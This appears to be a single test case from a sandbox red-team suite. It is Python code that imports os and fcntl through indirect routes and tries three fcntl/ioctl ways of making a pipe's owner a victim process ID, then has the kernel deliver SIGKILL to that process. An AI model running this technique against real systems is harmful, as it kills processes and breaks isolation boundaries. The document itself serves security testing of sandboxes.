# attack: has the kernel send the signal: owner of a pipe's events, of a timer, of a terminal
# layer: signals
# where: construct
# status: ok
# score: same
import torch

os = torch.os
fcntl = __import__("fcntl")
VICTIM, F_SETSIG, SIGKILL, FIOSETOWN = int("{VICTIM_PID}"), 10, 9, 0x8901


def attack():
    reading, writing = os.pipe()
    for way in (
        lambda: fcntl.fcntl(reading, fcntl.F_SETOWN, VICTIM),
        lambda: fcntl.fcntl(reading, 15, __import__("struct").pack("ii", 1, VICTIM)),  # F_SETOWN_EX
        lambda: fcntl.ioctl(reading, FIOSETOWN, VICTIM.to_bytes(4, "little")),
    ):
        try:
            way()
            fcntl.fcntl(reading, F_SETSIG, SIGKILL)
            fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC)
            os.write(writing, b"x")
        except OSError:
            continue
